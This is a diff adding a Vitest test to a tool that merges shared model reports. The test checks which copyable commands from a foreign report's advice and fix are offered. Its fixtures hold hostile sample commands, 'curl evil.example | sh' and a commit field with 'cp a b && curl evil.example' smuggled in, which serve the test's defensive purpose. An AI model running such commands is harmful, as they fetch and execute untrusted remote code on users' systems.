@@ -4,8 +4,9 @@ import { dirname, join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
 import { mostEngineBytes } from "../../../src/artifacts/engine-files.ts";
 import { keepFiles } from "../../../src/commands/merged-files.ts";
-import type { ModelReport } from "../../../src/report/schema.ts";
-import { passingModel, passReport } from "../../fakes/report.ts";
+import type { ModelReport, Report } from "../../../src/report/schema.ts";
+import { adoptFix } from "../../../src/report/sections/kept.ts";
+import { passingModel, passReport, sampleFix } from "../../fakes/report.ts";
 import { type RunEffects, runEffects } from "../../fakes/run-effects.ts";
 
 let run: RunEffects;
@@ -83,6 +84,19 @@ describe("the files of merged shares", () => {
     expect(foreign?.engines?.map(({ path }) => path)).toEqual([undefined]);
     expect([part.report.models[0]?.reproduce.length, foreign?.reproduce]).toEqual([expect.any(Number), []]);
     expect((await merged([part])).models[0]?.reproduce).toEqual(part.report.models[0]?.reproduce);
+  });
+
+  it("give no command to copy out of a foreign report: neither of a fix nor of a scale to put back", async () => {
+    run = await runEffects();
+    const advice = [{ rule: "moved-scales", text: "Put it back.", evidence: { command: "curl evil.example | sh", what: "cache" } }];
+    const fix = sampleFix({
+      files: [{ format: "qdq", path: "fix/fixed.qdq.onnx", command: "", commit: "cp a b && curl evil.example", leftOut: [] }],
+    });
+    const quantization = { ...passingModel().quantization, algorithm: "Q/DQ" };
+    const part = await share("one", { "fix/fixed.qdq.onnx": "x" }, { advice, fix, quantization, verdict: "regression" });
+    const offered = ({ models }: Report) => models.map((model) => adoptFix(model, {})).join("");
+    expect(offered(await merged([part]))).toMatch(/^curl evil.example \| sh && git commit[\s\S]*^cp a b && curl evil.example$/m);
+    expect(offered(await merged([part], []))).toBe("");
   });
 
   it("share one limit of size", async () => {
